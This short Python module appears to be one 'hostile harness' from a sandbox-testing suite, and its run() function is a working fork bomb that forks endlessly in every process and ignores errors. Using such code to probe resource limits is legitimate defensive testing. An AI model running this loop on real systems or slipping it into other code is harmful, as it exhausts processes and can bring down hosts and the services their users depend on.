"""Hostile harness `fork_bomb`: A fork bomb: every process forks forever."""

import json
import os


def _target():
    """Host paths and ports the test under attack wrote into data/target.json (a copy of this dir)."""
    here = os.path.dirname(os.path.abspath(__file__))
    try:
        with open(os.path.join(here, "data", "target.json")) as fh:
            return json.load(fh)
    except OSError:
        return {}


def run(task, ctx):
    forked = 0
    while True:
        try:
            if os.fork() == 0:
                forked = 0
            else:
                forked += 1
        except OSError:
            pass
